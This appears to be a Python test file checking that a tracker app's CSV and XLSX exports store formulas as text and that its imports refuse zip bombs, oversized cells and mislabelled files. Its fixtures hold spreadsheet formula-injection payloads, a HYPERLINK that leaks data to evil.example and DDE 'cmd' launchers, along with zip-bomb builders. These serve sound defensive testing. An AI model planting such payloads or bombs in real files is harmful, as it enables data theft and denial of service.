"""Hostile exports and imports: formulas stay text, bombs and oversized files are refused early."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.webtools import activity, csrf_token
from tracker.exchange import (
    CLI_LIMITS,
    COLUMNS,
    WEB_LIMITS,
    ImportFailed,
    export_rows,
    import_files,
    write_rows,
)
from tracker.exchange.files import protect_cell, unprotect_cell
from tracker.models import Activity
from tracker.timeline import TimelineError, parse_timeline

from .conftest import TEST_TODAY

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "note": HYPERLINK,
    "description": "+1+cmd|' /C calc'!A0",
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def plant(session) -> Activity:
    """A lead's progress note and a title that a spreadsheet would run as formulas."""
    a = activity(session, "WS1", "3.4")
    a.progress_note = HOSTILE["note"]
    a.description = HOSTILE["description"]
    a.title = HOSTILE["title"]
    b = activity(session, "WS1", "3.5")
    b.progress_note = "'=already quoted, and\ttabbed"
    b.description = "-10 degrees"
    session.flush()
    return a


@given(st.text())
def test_protecting_a_cell_is_undone_exactly(text):
    protected = protect_cell(text)
    assert unprotect_cell(protected) == text
    assert not protected.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_writes_formulas_as_text_and_reimports_them_unchanged(session, tmp_path):
    plant(session)
    path = tmp_path / "ws1.csv"
    write_rows(path, export_rows(session, "WS1"))
    cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for c in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "''=already quoted, and\ttabbed" in cells and "'-10 degrees" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    report = import_files(session, [path], TEST_TODAY)
    assert report.changes == [] and report.unchanged == len(export_rows(session, "WS1"))


def test_xlsx_export_has_no_formula_and_reimports_unchanged(session, tmp_path):
    plant(session)
    path = tmp_path / "ws1.xlsx"
    write_rows(path, export_rows(session, "WS1"))
    with zipfile.ZipFile(path) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(path).active
    note = COLUMNS.index("note") + 1
    cells = [row[note - 1] for row in sheet.iter_rows(min_row=2)]
    assert any(c.value == HYPERLINK and c.data_type in ("s", "inlineStr") for c in cells)
    assert "f" not in {c.data_type for row in sheet.iter_rows() for c in row}
    report = import_files(session, [path], TEST_TODAY)
    assert report.changes == []


def test_web_export_is_protected_too(client, session, auth):
    plant(session)
    session.commit()
    auth.sign_in_as("coordinator@example.org")
    text = client.get("/manage/export?format=csv&working_group=WS1").text
    assert "'" + HYPERLINK.replace('"', '""') in text


# --- bombs and oversized files -------------------------------------------------------------


def small_xlsx(path: Path, cell: str = "x") -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(["working_group", "code", "title"])
    sheet.append(["WS1", "9", cell])
    book.save(path)
    return path


def huge_cell_xlsx(path: Path, chars: int) -> Path:
    """A workbook whose one cell holds `chars` characters (more than Excel itself allows)."""
    small_xlsx(path, "HUGE")
    with zipfile.ZipFile(path) as package:
        members = {name: package.read(name) for name in package.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = members[sheet].replace(b"HUGE", b"y" * chars)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return path


def inflating_xlsx(path: Path, unpacked_mb: int) -> Path:
    """A real workbook plus a member of zeros that deflates to about a thousandth of its size."""
    small_xlsx(path)
    chunk = bytes(1024 * 1024)
    with (
        zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as package,
        package.open("xl/sharedStrings2.xml", "w", force_zip64=True) as member,
    ):
        for _ in range(unpacked_mb):
            member.write(chunk)
    return path


def refused(session, path: Path, limits=CLI_LIMITS) -> tuple[str, float]:
    """The first error of an import that must fail, and the seconds it took."""
    before = session.scalar(sa.select(sa.func.count()).select_from(Activity))
    started = time.perf_counter()
    with pytest.raises(ImportFailed) as failed:
        import_files(session, [path], TEST_TODAY, limits=limits)
    elapsed = time.perf_counter() - started
    session.rollback()
    assert session.scalar(sa.select(sa.func.count()).select_from(Activity)) == before
    return str(failed.value.errors[0]), elapsed


@pytest.mark.slow
def test_an_xlsx_inflating_to_300_mb_is_refused_before_it_is_read(session, tmp_path):
    bomb = inflating_xlsx(tmp_path / "bomb.xlsx", 310)
    assert bomb.stat().st_size < 1024 * 1024  # under a megabyte on disk
    message, seconds = refused(session, bomb)
    assert "bomb.xlsx, file: the file unpacks to 310 MB" in message and "zip bomb" in message
    assert seconds < 0.5


def test_an_xlsx_with_a_huge_cell_is_refused_by_its_unpacked_size_on_the_web(session, tmp_path):
    path = huge_cell_xlsx(tmp_path / "huge.xlsx", 31 * 1024 * 1024)
    assert path.stat().st_size < 100_000
    message, seconds = refused(session, path, WEB_LIMITS)
    assert "unpacks to 31 MB, more than the 30 MB allowed" in message and seconds < 0.5


def test_a_cell_longer_than_the_limit_is_a_row_error(session, tmp_path):
    path = small_xlsx(tmp_path / "long.xlsx", "z" * (CLI_LIMITS.cell_chars + 1))
    message, _ = refused(session, path)
    assert message == "long.xlsx, row 2: a cell of 20,001 characters; at most 20,000 are taken"
    csv_path = tmp_path / "long.csv"
    csv_path.write_text("working_group,code,title\nWS1,9," + "z" * 200_000 + "\n")
    message, _ = refused(session, csv_path)
    assert message.startswith("long.csv, row 2: not readable CSV (field larger than field limit")


def test_more_rows_than_the_limit_stops_reading(session, tmp_path):
    path = tmp_path / "many.csv"
    rows = "".join(f"WS1,x{n},Item {n}\n" for n in range(WEB_LIMITS.rows + 1))
    path.write_text("working_group,code,title\n" + rows)
    message, seconds = refused(session, path, WEB_LIMITS)
    assert "many.csv, file: more than 300 rows" in message and seconds < 0.5


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("plan.xlsx", b"%PDF-1.7\n...", "not a XLSX file: it is a PDF document"),
        ("plan.xlsx", b"working_group,code,title\n", "not a XLSX file (it is not a zip package)"),
        (
            "plan.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
            "not a XLSX file: it is password-protected (encrypted), or in the old binary format",
        ),
        ("plan.xlsx", b"PK\x03\x04broken", "not a readable XLSX file: the package is damaged"),
        ("plan.csv", b"PK\x03\x04\x14\x00\x00\x00", "not a text file: it holds binary data"),
    ],
)
def test_a_file_that_is_not_what_its_name_says(session, tmp_path, name, content, says):
    path = tmp_path / name
    path.write_bytes(content)
    message, _ = refused(session, path)
    assert message.startswith(f"{name}, file: {says}")


def post_file(client, name: str, body: bytes):
    # encoded in memory: the test client would spool a body this size to a file it never closes
    boundary, form = encode_multipart(
        {
            "csrf_token": csrf_token(client, "/account"),
            "files": FileStorage(io.BytesIO(body), name),
        }
    )
    return client.post(
        "/manage/import", data=form, content_type=f"multipart/form-data; boundary={boundary}"
    )


@pytest.mark.parametrize(
    ("megabytes", "says"),
    [
        (20, "The upload is too large."),  # over the app's limit on any request body
        (3, "the file is larger than the 2 MB an import takes here"),
    ],
)
def test_the_web_refuses_a_large_file_before_reading_it(client, session, auth, megabytes, says):
    auth.sign_in_as("coordinator@example.org")
    body = b"working_group,code,title\n" + b"WS1,1,x\n" * (megabytes * 1024 * 1024 // 8)
    started = time.perf_counter()
    response = post_file(client, "big.csv", body)
    assert response.status_code == 413
    assert says in response.text
    assert time.perf_counter() - started < 2
    assert session.scalar(sa.text("select count(*) from import_upload")) == 0


def test_parse_timeline_refuses_very_long_text_at_once():
    started = time.perf_counter()
    with pytest.raises(TimelineError, match="a timeline of 50,000 characters is too long"):
        parse_timeline("(" * 50_000)
    assert time.perf_counter() - started < 0.01
    assert parse_timeline("January 2020 " + " " * 280).start is not None  # 293 characters
